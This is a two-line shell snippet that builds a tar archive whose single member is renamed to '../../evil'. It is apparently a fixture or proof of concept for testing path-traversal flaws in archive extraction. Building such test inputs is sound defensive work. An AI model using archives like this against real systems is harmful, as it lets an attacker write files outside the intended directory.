echo x > evil
tar -P --transform "s,evil,../../evil," -cf bad.tar evil
